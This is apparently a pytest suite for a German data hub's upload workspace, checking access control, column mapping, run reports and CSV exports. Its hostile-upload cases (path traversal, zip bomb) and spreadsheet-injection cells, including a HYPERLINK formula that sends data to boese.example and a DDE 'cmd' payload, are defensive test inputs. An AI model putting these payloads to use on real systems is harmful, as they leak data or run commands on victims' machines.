"""Bringing data in through the workspace, on a real `hub serve` with real multipart uploads
(httpx): hostile uploads are refused with a clear message and nothing kept; the demo XLSX of
care locations with a deliberately renamed column gets a proposed mapping (types over the
whole file, coordinates and their CRS), a wrong mapping runs into a failed run with its
report, the fixed mapping runs, and the quarantined rows download as CSV. The saved
definition is exactly a pipeline file (exported, loaded by the ingest's loader, found by
`hub ingest`). The same steps in a real browser: tests/test_workspace_journey.py."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import openpyxl
import pytest
import yaml
from ckan_project import build, run_hub
from conftest import hub_worker, serving

from hub import audit
from hub.accounts import Accounts
from hub.catalog import open_catalog
from hub.config import load_settings
from hub.ingest.definitions import Definitions
from hub.ingest.pipeline import discover
from hub.jobs.schedule import tick
from hub.store.versions import Store

PASSWORD = "Korrekt Pferd Batterie"
LIMIT = 2 << 20  # HUB_MAX_UPLOAD_BYTES of the test server
DATASET = "pflege-upload"
URL_DATASET = "pflege-url"
SHEET_DATASET = "pflege-blatt"
FORMULA_DATASET = "pflege-formeln"
PAGE = f"/arbeitsbereich/datensaetze/{DATASET}"
RECORD = {"name": DATASET, "title": "Pflegeangebote (hochgeladen)", "publisher": "sozialamt",
          "description": "Aus der Tabelle des Sozialamts.", "license": "dl-by-de/2.0",
          "frequency": "QUARTERLY", "access": "internal"}  # public once data passed


@dataclass
class Site:
    root: Path
    url: str

    @property
    def folder(self) -> Path:
        return self.root / "store" / "uploads" / "workspace" / DATASET

    def kept(self) -> list[str]:
        staging = self.root / "store" / "uploads" / ".staging"
        return sorted([p.name for p in self.folder.glob("*")] +
                      [f"staging/{p.name}" for p in staging.glob("*")])


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    root: Path = tmp_path_factory.mktemp("daten")
    build(root)
    for spec in (RECORD, *({**RECORD, "name": n} for n in (URL_DATASET, SHEET_DATASET,
                                                            FORMULA_DATASET))):
        record = root / "record.yaml"
        record.write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
        run_hub(root, "catalog", "add", str(record))
    catalog, vocab, _ = open_catalog(load_settings(root, root / "store"))
    accounts = Accounts(catalog.store, vocab)
    for user in ("sam", "kat", "ann"):
        accounts.set_password(user, PASSWORD)
    with serving(root, HUB_MAX_UPLOAD_BYTES=str(LIMIT)) as url, hub_worker(root):
        yield Site(root, url)


@contextlib.contextmanager
def signed_in(site: Site, user: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=site.url, timeout=60, follow_redirects=False) as browser:
        token = csrf_of(browser.get("/anmelden").text)
        done = browser.post("/anmelden", data={"name": user, "password": PASSWORD,
                                               "csrf": token})
        assert done.status_code == 303, done.text[:300]
        yield browser


def csrf_of(text: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', text)
    assert found, text[:500]
    return found.group(1)


def upload(browser: httpx.Client, *files: tuple[str, bytes], csrf: str | None = None,
           dataset: str = DATASET) -> httpx.Response:
    token = csrf if csrf is not None else csrf_of(browser.get(f"/arbeitsbereich/datensaetze/"
                                                              f"{dataset}/daten").text)
    return browser.post(f"/arbeitsbereich/datensaetze/{dataset}/daten/dateien",
                        data={"csrf": token}, files=[("dateien", f) for f in files])


def zipped(*members: tuple[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def care_workbook(demo: Path, rename: dict[str, str], broken_plz: int = 0,
                  notes_first: bool = False) -> bytes:
    """The demo district's pflege.xlsx (sheets "Einrichtungen" — banner rows, header on row 4
    — and "Hinweise"; generated in the `demo_district` project `demo`), columns renamed and
    the first `broken_plz` postcodes made invalid; `notes_first`: the notes are the first
    sheet."""
    source = demo / "pipelines/data/generated/pflege.xlsx"
    book = openpyxl.load_workbook(source)
    if notes_first:
        book.move_sheet("Hinweise", offset=-1)
    sheet = book["Einrichtungen"]
    header = {cell.value: cell.column for cell in sheet[4]}
    for old, new in rename.items():
        sheet.cell(4, header[old]).value = new
    for row in range(5, 5 + broken_plz):
        sheet.cell(row, header["PLZ"]).value = "XY"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


HOSTILE = [
    ("traversal", [("../boese.csv", b"a,b\n1,2\n")], 400, "darf keinen Ordner nennen"),
    ("backslash", [("..\\..\\boese.csv", b"a,b\n1,2\n")], 400, "darf keinen Ordner nennen"),
    ("folder", [("unter/daten.csv", b"a,b\n1,2\n")], 400, "darf keinen Ordner nennen"),
    ("hidden", [(".htaccess.csv", b"a,b\n1,2\n")], 400, "beginnt mit einem Punkt"),
    ("kind", [("programm.exe", b"MZ\x90\x00")], 400, "Der Hub liest nur"),
    ("xlsx-not-zip", [("tabelle.xlsx", b"Name;Ort\nA;B\n")], 400,
     "kein vollständiges ZIP-Archiv"),
    ("xlsx-other-zip", [("tabelle.xlsx", zipped(("a.txt", b"hallo")))], 400,
     "ist keine Excel-Arbeitsmappe"),
    ("csv-binary", [("daten.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)], 400,
     "ist binär, kein Text"),
    ("geojson-text", [("orte.geojson", b"Name,Ort\nA,B\n")], 400, "ist kein GeoJSON"),
    ("gpkg-text", [("karte.gpkg", b"hallo welt")], 400, "ist kein GeoPackage"),
    ("zip-bomb", [("bombe.zip", zipped(("x.shp", bytes(30 << 20)), ("x.dbf", b"x")))], 400,
     "ZIP-Bombe"),
    ("zip-traversal", [("pfad.zip", zipped(("../../x.shp", b"x"), ("x.dbf", b"x")))], 400,
     "unsicheren Pfad"),
    ("zip-no-shp", [("leer.zip", zipped(("liesmich.txt", b"x")))], 400,
     "enthält kein Shapefile"),
    ("oversized", [("gross.csv", b"a,b\n" + b"1,2\n" * (LIMIT // 4 + 10))], 413,
     "gross.csv ist größer als die Obergrenze für hochgeladene Dateien (2,0\u00a0MiB)"),
    ("oversized-body", [("gross.csv", b"a,b\n" + b"1,2\n" * (LIMIT // 2))], 413,
     "Das Hochgeladene ist größer als die Obergrenze für hochgeladene Dateien (2,0\u00a0MiB)"),
    ("one-bad-of-two", [("gut.csv", b"a,b\n1,2\n"), ("schlecht.xlsx", b"a,b\n")], 400,
     "schlecht.xlsx passt nicht zum Namen"),
]


@pytest.mark.parametrize(("files", "status", "message"), [h[1:] for h in HOSTILE],
                         ids=[h[0] for h in HOSTILE])
def test_hostile_uploads_are_refused_and_nothing_is_kept(site: Site, files: list, status: int,
                                                         message: str) -> None:
    before = site.kept()
    with signed_in(site, "sam") as browser:
        answer = upload(browser, *files)
    assert answer.status_code == status, answer.text[:500]
    assert message in answer.text.replace("&#39;", "'")
    assert 'role="alert"' in answer.text
    assert site.kept() == before
    assert not any(p.name.startswith(("boese", "..")) for p in site.root.rglob("boese*"))


def test_uploads_need_a_session_the_csrf_token_and_the_own_organisation(site: Site) -> None:
    before = site.kept()
    with httpx.Client(base_url=site.url, timeout=30) as anonymous:
        answer = anonymous.post(PAGE + "/daten/dateien", data={"csrf": "x"},
                                files=[("dateien", ("a.csv", b"a,b\n1,2\n"))])
        assert answer.status_code == 303 and answer.headers["location"] == "/anmelden"
        assert anonymous.get(PAGE + "/daten").status_code == 303
    with signed_in(site, "sam") as browser:
        for csrf in ("falsch", ""):
            refused = upload(browser, ("a.csv", b"a,b\n1,2\n"), csrf=csrf)
            assert refused.status_code == 403 and "<h1>Kein Zugriff</h1>" in refused.text
    with signed_in(site, "kat") as other:  # an editor of another organisation
        token = csrf_of(other.get("/konto").text)
        refused = [other.get(PAGE + path) for path in ("/daten", "/pruefbericht",
                                                       "/pruefbericht/quarantaene.csv",
                                                       "/pipeline.yaml")]
        refused.append(upload(other, ("a.csv", b"a,b\n1,2\n"), csrf=token))
        for answer in refused:  # the workspace's page, in German, naming no one
            assert answer.status_code == 403, answer.request.url
            assert answer.headers["content-type"].startswith("text/html")
            assert "<h1>Kein Zugriff</h1>" in answer.text and 'class="workspace-nav"' in answer.text
            assert "sozialamt" not in answer.text.lower()
        twin = other.get(PAGE + "/daten/lauf.json")  # the JSON twin answers JSON
        assert twin.status_code == 403 and twin.headers["content-type"] == "application/json"
        hidden = other.get("/arbeitsbereich/datensaetze/zuckerwatte-sozial/daten")
        unknown = other.get("/arbeitsbereich/datensaetze/gibt-es-nicht/daten")
        assert hidden.status_code == unknown.status_code == 404  # hidden = unknown
        assert hidden.headers["content-type"].startswith("text/html")
        assert hidden.text.replace("zuckerwatte-sozial", "X") == \
            unknown.text.replace("gibt-es-nicht", "X")
        assert "Zuckerwatte" not in hidden.text
    assert site.kept() == before


def mapping_form(page: str) -> dict[str, str]:
    """The mapping form's fields as the page fills them in (selected options, checked radio,
    input values)."""
    form = page[page.index('/daten/pipeline"'):]
    form = form[:form.index("</form>")]
    fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', form))
    for name, body in re.findall(r'<select id="[^"]+" name="([^"]+)"[^>]*>(.*?)</select>', form,
                                 re.S):
        chosen = re.search(r'<option value="([^"]*)" selected>', body)
        fields[name] = chosen.group(1) if chosen else ""
    checked = re.search(r'name="geometry" value="([^"]+)" checked', form)
    fields["geometry"] = checked.group(1) if checked else ""
    fields["crs"] = re.search(r'name="crs" list="crs-liste" value="([^"]*)"', form).group(1)
    return {k: v.replace("&amp;", "&") for k, v in fields.items()}


def finished(browser: httpx.Client, dataset: str = DATASET) -> dict:
    for _ in range(1200):  # guards a hang only: a run of 155 rows takes about a second
        state = browser.get(f"/arbeitsbereich/datensaetze/{dataset}/daten/lauf.json").json()
        if state["state"] not in ("queued", "running"):
            return state
        time.sleep(0.1)
    raise AssertionError("the run did not finish")


def test_upload_preview_mapping_run_and_report(site: Site, demo_district: Path) -> None:
    workbook = care_workbook(demo_district, {"Name": "Bezeichnung"}, broken_plz=2)
    with signed_in(site, "sam") as browser:
        done = upload(browser, ("Pflege Angebote.xlsx", workbook))
        assert done.status_code == 303, done.text[:500]
        assert site.kept() == ["Pflege-Angebote.xlsx"]
        page = browser.get(PAGE + "/daten").text
        assert "155 Zeilen, 19 Spalten" in page
        assert "Bezeichnung" in page and "EE-PF-0001" in page
        assert "data-points=" in page  # the map of the first locations
        proposed = mapping_form(page)
        assert proposed["schema"] == "pflege"  # the schema the columns fit best
        assert proposed["map.name"] == ""  # renamed: no column proposed ...
        assert proposed["map.art"] == "Art" and proposed["map.plaetze"] == "Plätze"
        assert proposed["map.id"] == "Nr."
        assert (proposed["geometry"], proposed["lon"], proposed["lat"], proposed["crs"]) == (
            "lonlat", "Rechtswert", "Hochwert", "EPSG:25833")
        assert "Pflichtfeld ohne Spalte" in page

        # saved as proposed, the run fails: every row lacks its required name
        saved = browser.post(PAGE + "/daten/pipeline", data=proposed)
        assert saved.status_code == 303, saved.text[:800]
        started = browser.post(PAGE + "/daten/lauf", data={"csrf": proposed["csrf"]})
        assert started.status_code == 303
        assert finished(browser)["state"] == "failed"
        report = browser.get(PAGE + "/pruefbericht").text
        assert "Der Lauf ist gescheitert" in report
        assert "Dem Pflichtfeld „name“ ist keine Spalte zugeordnet" in report

        # the way back: fix the mapping, run again
        again = mapping_form(browser.get(PAGE + "/daten").text)
        assert again["map.name"] == ""  # the saved (wrong) mapping is shown to be fixed
        again["map.name"] = "Bezeichnung"
        assert browser.post(PAGE + "/daten/pipeline", data=again).status_code == 303
        browser.post(PAGE + "/daten/lauf", data={"csrf": again["csrf"]})
        state = finished(browser)
        assert state["state"] == "committed" and state["version"] == 1
        report = browser.get(PAGE + "/pruefbericht").text
        assert "Version 1 wurde angelegt" in report
        problems = re.findall(r"<tr><td[^>]*>([^<]*)</td><td[^>]*>(\d+)</td><td[^>]*>([^<]*)</td>"
                              r"<td[^>]*>([^<]*)</td><td[^>]*><code>([^<]+)</code>", report)
        assert [(row, column, value, rule) for _, row, column, value, rule in problems] == [
            ("5", "PLZ", "XY", "pattern"), ("6", "PLZ", "XY", "pattern")]
        rows = browser.get(PAGE + "/pruefbericht/quarantaene.csv")
        assert rows.status_code == 200 and rows.headers["content-type"].startswith("text/csv")
        table = list(csv.DictReader(io.StringIO(rows.content.decode("utf-8-sig"))))
        assert [(r["_zeile"], r["plz"]) for r in table] == [("5", "XY"), ("6", "XY")]
        assert all(r["_fehler"] == "plz: „XY“ hat nicht die erwartete Form (Muster: "
                   "[0-9]{5})." for r in table), table

        exported = browser.get(PAGE + "/pipeline.yaml")
        first = browser.get(PAGE + "/pipeline.yaml?revision=1")
    assert exported.status_code == 200
    spec = yaml.safe_load(exported.text)
    assert spec["dataset"] == DATASET and spec["organization"] == "sozialamt"
    assert spec["update_frequency"] == "quarterly" and spec["schema"] == "pflege"
    assert spec["sources"][0]["path"] == "Pflege-Angebote.xlsx"
    assert spec["sources"][0]["mapping"]["name"] == "Bezeichnung"
    assert "name" not in yaml.safe_load(first.text)["sources"][0]["mapping"]
    # exactly the format of pipelines/: the file, put beside the upload, loads and runs
    settings = load_settings(site.root, site.root / "store")
    store = Store(settings.store)
    history = Definitions(store, settings.pipelines_dir, settings.schemas_dir).history(DATASET)
    assert [(r.revision, r.saved_by) for r in history] == [(2, "sam"), (1, "sam")]
    assert DATASET in {p.dataset for p in discover(settings.pipelines_dir, settings.schemas_dir,
                                                   store)}
    out = run_hub(site.root, "ingest", DATASET)
    assert "unchanged" in out
    # a file in pipelines/ under the same name wins over the saved definition
    shadow = settings.pipelines_dir / f"{DATASET}.yaml"
    shadow.write_text(exported.text.replace("Pflegeangebote (hochgeladen)", "Aus der Datei"),
                      encoding="utf-8")
    try:
        found = {p.dataset: p for p in discover(settings.pipelines_dir, settings.schemas_dir,
                                                store)}
        assert found[DATASET].title == "Aus der Datei" and found[DATASET].path == shadow
    finally:
        shadow.unlink()
    # the audit trail holds both saves (with the texts before and after) and both runs
    trail = audit.entries(store.db, audit.Filter(subject=DATASET))
    saves = [e for e in trail if e.action == "pipeline.save"]
    assert [(e.actor, json.loads(e.after)["revision"]) for e in saves] == [("sam", 2), ("sam", 1)]
    assert saves[1].before is None and json.loads(saves[0].before)["revision"] == 1
    assert [json.loads(e.after)["state"] for e in trail if e.action == "job.run"] == [
        "done", "failed"]
    assert audit.verify(store.db)


def test_a_dataset_defined_by_a_file_is_changed_there(site: Site) -> None:
    with signed_in(site, "ann") as admin:
        page = admin.get("/arbeitsbereich/datensaetze/gemeinden/daten")
        assert page.status_code == 200
        assert "gemeinden.yaml" in page.text
        refused = admin.post("/arbeitsbereich/datensaetze/gemeinden/daten/pipeline", data={
            "csrf": csrf_of(page.text), "schema": "gemeinden", "geometry": "native"})
        assert refused.status_code == 409 and "change it there" in refused.text


def test_the_sheet_of_a_workbook_is_chosen_and_kept_in_the_pipeline(
        site: Site, demo_district: Path) -> None:
    """A workbook whose first sheet is a note: the preview lists its sheets and shows the
    first; the data's sheet is chosen, saved as the source's `sheet` option (the ingest's
    XLSX reader's) and run; an unknown sheet is refused naming the workbook's sheets."""
    here = f"/arbeitsbereich/datensaetze/{SHEET_DATASET}"
    workbook = care_workbook(demo_district, {}, notes_first=True)
    with signed_in(site, "sam") as browser:
        assert upload(browser, ("Pflege.xlsx", workbook), dataset=SHEET_DATASET
                      ).status_code == 303
        first = browser.get(here + "/daten").text
        sheets = re.search(r'<select id="blatt" name="blatt">(.*?)</select>', first, re.S)
        assert sheets, first[:3000]
        assert re.findall(r'<option value="([^"]+)"( selected)?>', sheets.group(1)) == [
            ("Hinweise", " selected"), ("Einrichtungen", "")]
        assert "Pflege.xlsx – Hinweise: " in first and "155 Zeilen" not in first

        chosen = browser.get(here + "/daten", params={"blatt": "Einrichtungen"}).text
        assert "Pflege.xlsx – Einrichtungen: 155 Zeilen, 19 Spalten" in chosen
        form = mapping_form(chosen)
        assert form["blatt"] == "Einrichtungen" and form["map.name"] == "Name"
        assert browser.post(here + "/daten/pipeline", data=form).status_code == 303
        spec = yaml.safe_load(browser.get(here + "/pipeline.yaml").text)
        assert spec["sources"][0]["options"] == {"sheet": "Einrichtungen"}
        again = browser.get(here + "/daten").text  # the saved sheet is shown
        assert "Pflege.xlsx – Einrichtungen: 155 Zeilen" in again

        browser.post(here + "/daten/lauf", data={"csrf": form["csrf"]})
        state = finished(browser, SHEET_DATASET)
        assert state["state"] == "committed", state

        refused = browser.post(here + "/daten/pipeline", data={**form, "blatt": "Tabelle9"})
        assert refused.status_code == 400
        assert "Die Arbeitsmappe Pflege.xlsx hat kein Blatt „Tabelle9“; ihre Blätter: " \
            "Hinweise, Einrichtungen." in refused.text
        assert yaml.safe_load(browser.get(here + "/pipeline.yaml").text) == spec  # kept
    settings = load_settings(site.root, site.root / "store")
    assert Store(settings.store).current(SHEET_DATASET).rows == 155


class _Source(BaseHTTPRequestHandler):
    body = ("Nr.;Name;Art;Länge;Breite\r\n" + "".join(
        f"U-{i};Pflegedienst {i};Tagespflege;13,{40 + i};51,{60 + i}\r\n" for i in range(30))
            ).encode("cp1252")

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/csv")
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args: object) -> None:
        pass


def test_a_url_as_the_source(site: Site) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Source)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_port}/orte.csv"
    here = f"/arbeitsbereich/datensaetze/{URL_DATASET}"
    try:
        with signed_in(site, "sam") as browser:
            page = browser.get(here + "/daten", params={"art": "url", "url": url})
            assert page.status_code == 200
            shown = page.text[page.text.index('id="vorschau"'):page.text.index('id="zuordnung"')]
            assert "30 Zeilen, 5 Spalten" in shown and "Pflegedienst 9" in shown, shown[:2000]
            form = mapping_form(page.text)
            assert (form["art"], form["url"]) == ("url", url)
            assert (form["geometry"], form["lon"], form["lat"], form["crs"]) == (
                "lonlat", "Länge", "Breite", "EPSG:4326")
            assert browser.post(here + "/daten/pipeline", data=form).status_code == 303
            spec = yaml.safe_load(browser.get(here + "/pipeline.yaml").text)
    finally:
        server.shutdown()
    assert spec["sources"][0]["url"] == url and "path" not in spec["sources"][0]
    assert spec["sources"][0]["geometry"] == {"lon": "Länge", "lat": "Breite"}
    # kept current like a pipeline file: the worker's schedule queues the saved remote source
    settings = load_settings(site.root, site.root / "store")
    assert URL_DATASET in tick(settings, Store(settings.store)).submitted


HOSTILE_CELLS = ['=HYPERLINK("https://boese.example/?"&A1,"Klick")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_quarantined_rows_download_with_formulas_neutralised(site: Site,
                                                             demo_district: Path) -> None:
    """Hostile cells in an uploaded workbook (postcodes that fail their pattern, so the rows
    go to quarantine as they came, and names that are valid text): the quarantine CSV and the
    problems CSV start none of their text cells with = + - @ TAB or CR — each gets an
    apostrophe in front, exactly the value behind it (hub.spreadsheet)."""
    here = f"/arbeitsbereich/datensaetze/{FORMULA_DATASET}"
    book = openpyxl.load_workbook(io.BytesIO(care_workbook(demo_district, {})))
    sheet = book["Einrichtungen"]
    header = {cell.value: cell.column for cell in sheet[4]}
    for i, value in enumerate(HOSTILE_CELLS):
        for column in ("PLZ", "Name"):
            cell = sheet.cell(5 + i, header[column])
            cell.value = value
            cell.data_type = "s"  # text, as typed with a leading apostrophe (not a formula)
    out = io.BytesIO()
    book.save(out)
    with signed_in(site, "sam") as browser:
        assert upload(browser, ("Formeln.xlsx", out.getvalue()), dataset=FORMULA_DATASET
                      ).status_code == 303
        form = mapping_form(browser.get(here + "/daten").text)
        assert browser.post(here + "/daten/pipeline", data=form).status_code == 303
        browser.post(here + "/daten/lauf", data={"csrf": form["csrf"]})
        assert finished(browser, FORMULA_DATASET)["state"] == "committed"
        rows = browser.get(here + "/pruefbericht/quarantaene.csv")
        problems = browser.get(here + "/pruefbericht/probleme.csv")
    assert rows.status_code == problems.status_code == 200
    table = list(csv.DictReader(io.StringIO(rows.content.decode("utf-8-sig"), newline="")))
    assert len(table) == len(HOSTILE_CELLS)
    kept = [value.strip() for value in HOSTILE_CELLS]  # the XLSX reader trims cells
    assert sorted(r["plz"] for r in table) == sorted("'" + v for v in kept)
    assert sorted(r["name"] for r in table) == sorted("'" + v for v in kept)
    listed = list(csv.DictReader(io.StringIO(problems.content.decode("utf-8-sig"),
                                             newline="")))
    assert sorted(r["Wert"] for r in listed if r["Regel"] == "pattern") == sorted(
        "'" + v for v in kept), listed
    for cell in [c for r in table + listed for c in r.values()]:
        assert not re.match(r"[=+\-@\t\r]", cell), cell
